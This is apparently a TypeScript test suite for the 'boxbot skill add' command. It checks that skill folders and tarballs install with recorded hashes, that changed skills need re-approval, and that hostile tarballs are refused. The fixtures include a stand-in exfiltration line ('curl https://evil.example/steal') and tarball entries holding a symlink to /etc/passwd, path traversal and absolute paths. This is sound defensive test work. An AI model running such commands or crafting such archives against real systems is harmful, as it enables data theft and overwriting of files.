// `boxbot skill add` underneath: a public-format skill folder installed from a folder or a
// tarball with its hash recorded, loaded with its scripts, references and assets; a changed skill
// refused until approved again; hostile tarballs (links, devices, traversal, absolute paths, too
// many or too large files) refused before anything is written.
import assert from 'node:assert/strict';
import { appendFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  approveSkill,
  installSkill,
  loadSkills,
  readSkillRecords,
  SKILL_LIMITS,
} from '../../../src/agent/skills/index.ts';
import { root, tempDir } from '../../helpers.ts';
import { type TarEntry, tarGz } from './tarball.ts';

const FIXTURE = join(root, 'test', 'fixtures', 'skill-folders', 'csv-report');
const fixtureFiles = ['SKILL.md', 'assets/template.csv', 'references/format.md', 'scripts/plot.py'];

/** A tarball of the csv-report fixture under a top folder, as registries publish them, plus `extra` entries. */
function fixtureTarball(extra: TarEntry[] = []): string {
  const entries: TarEntry[] = [{ path: 'csv-report/', type: '5' }];
  for (const f of [...fixtureFiles, 'scripts/totals.sh', 'scripts/weekday.js'])
    entries.push({ path: `csv-report/${f}`, body: readFileSync(join(FIXTURE, f)) });
  const file = join(tempDir('boxbot-tar-'), 'csv-report.tar.gz');
  writeFileSync(file, tarGz([...entries, ...extra]));
  return file;
}

const skillsDirOf = () => join(tempDir('boxbot-data-'), 'extensions', 'skills');
const load = (skillsDir: string) => loadSkills([{ path: skillsDir, source: 'extension' }]);

describe('skill add', () => {
  it('installs a tarball, records source and hash, and loads the folder progressively', async () => {
    const dir = skillsDirOf();
    const tarball = fixtureTarball();
    const r = await installSkill(tarball, dir);
    assert.equal(r.name, 'csv-report');
    assert.match(r.record.sha256, /^[0-9a-f]{64}$/);
    assert.deepEqual(r.notes, ['scripts/plot.py: refused when run (boxbot has no Python runtime the sandbox can run)']);
    assert.deepEqual(readSkillRecords(dir)['csv-report']?.source, tarball);
    const { skills, problems } = await load(dir);
    assert.deepEqual(problems, []);
    const s = skills[0]!;
    assert.equal(s.description.startsWith('Summarize a CSV file'), true);
    assert.deepEqual(s.resources, {
      scripts: ['scripts/plot.py', 'scripts/totals.sh', 'scripts/weekday.js'],
      references: ['references/format.md'],
      assets: ['assets/template.csv'],
    });
    assert.deepEqual(s.installed, { source: tarball, sha256: r.record.sha256 });
  });

  it('installs a folder to the same hash as its tarball', async () => {
    const a = await installSkill(FIXTURE, skillsDirOf());
    const b = await installSkill(fixtureTarball(), skillsDirOf());
    assert.equal(a.record.sha256, b.record.sha256);
  });

  it('refuses a second install of the same name unless asked to replace it', async () => {
    const dir = skillsDirOf();
    await installSkill(FIXTURE, dir);
    await assert.rejects(installSkill(FIXTURE, dir), /a skill named csv-report is installed already/);
    const r = await installSkill(FIXTURE, dir, true);
    assert.equal(r.replaced, true);
  });

  it('refuses a changed skill until it is approved again', async () => {
    const dir = skillsDirOf();
    await installSkill(fixtureTarball(), dir);
    appendFileSync(join(dir, 'csv-report', 'scripts', 'totals.sh'), '\ncurl https://evil.example/steal\n');
    let { skills, problems } = await load(dir);
    assert.deepEqual(skills, []);
    assert.match(problems[0]!.reason, /changed since it was approved .*boxbot skill approve csv-report/);
    // A file added is a change too.
    approveSkill('csv-report', dir);
    ({ skills } = await load(dir));
    assert.equal(skills.length, 1);
    writeFileSync(join(dir, 'csv-report', 'references', 'extra.md'), 'new');
    ({ skills, problems } = await load(dir));
    assert.deepEqual(skills, []);
    assert.match(problems[0]!.reason, /changed since it was approved/);
  });

  it('keeps single-file skills working, and refuses an unrecorded folder with scripts', async () => {
    const dir = skillsDirOf();
    await installSkill(FIXTURE, dir);
    const plain = join(dir, 'plain');
    const { mkdirSync } = await import('node:fs');
    mkdirSync(plain, { recursive: true });
    writeFileSync(join(plain, 'SKILL.md'), '---\nname: plain\ndescription: Old style\n---\nDo the thing.\n');
    const dropped = join(dir, 'dropped', 'scripts');
    mkdirSync(dropped, { recursive: true });
    writeFileSync(join(dir, 'dropped', 'SKILL.md'), '---\nname: dropped\ndescription: Dropped in\n---\nRun it.\n');
    writeFileSync(join(dropped, 'x.sh'), 'echo hi');
    const { skills, problems } = await load(dir);
    assert.deepEqual(
      skills.map((s) => s.name),
      ['csv-report', 'plain'],
    );
    assert.match(problems[0]!.reason, /never approved \(install it with boxbot skill add/);
  });

  const hostile: [string, TarEntry[], RegExp][] = [
    ['a symbolic link', [{ path: 'csv-report/scripts/link', type: '2', linkTo: '/etc/passwd' }], /SymbolicLink entry/],
    ['a hard link', [{ path: 'csv-report/hard', type: '1', linkTo: 'csv-report/SKILL.md' }], /Link entry/],
    ['a device', [{ path: 'csv-report/dev', type: '3' }], /CharacterDevice entry/],
    ['a FIFO', [{ path: 'csv-report/fifo', type: '6' }], /FIFO entry/],
    ['a path out of the folder', [{ path: 'csv-report/../../evil.sh', body: 'x' }], /paths leading out/],
    ['an absolute path', [{ path: '/tmp/evil.sh', body: 'x' }], /absolute paths are refused/],
    [
      'a file over the size cap',
      [{ path: 'csv-report/big.bin', body: new Uint8Array(SKILL_LIMITS.fileBytes + 1) }],
      /larger than 5 MB/,
    ],
    [
      'too many files',
      Array.from({ length: SKILL_LIMITS.files }, (_, i) => ({ path: `csv-report/many/${i}.txt`, body: 'x' })),
      /more than 200 files/,
    ],
    [
      'a file declared twice',
      [{ path: 'csv-report/SKILL.md', body: '---\nname: csv-report\ndescription: swapped\n---\nEvil\n' }],
      /appears twice/,
    ],
  ];
  for (const [what, extra, why] of hostile) {
    it(`refuses a tarball holding ${what}, writing nothing`, async () => {
      const dir = skillsDirOf();
      await assert.rejects(installSkill(fixtureTarball(extra), dir), why);
      assert.equal(existsSync(dir) ? readdirSync(dir).length : 0, 0);
      assert.deepEqual(readSkillRecords(dir), {});
    });
  }

  it('refuses a tarball with no SKILL.md, and a SKILL.md without a name', async () => {
    const none = join(tempDir('boxbot-tar-'), 'x.tar.gz');
    writeFileSync(none, tarGz([{ path: 'a/readme.md', body: 'hi' }]));
    await assert.rejects(installSkill(none, skillsDirOf()), /no SKILL\.md at the top/);
    const nameless = join(tempDir('boxbot-tar-'), 'y.tar.gz');
    writeFileSync(nameless, tarGz([{ path: 'SKILL.md', body: '---\ndescription: x\n---\nbody\n' }]));
    await assert.rejects(installSkill(nameless, skillsDirOf()), /SKILL\.md: front matter field name/);
  });
});
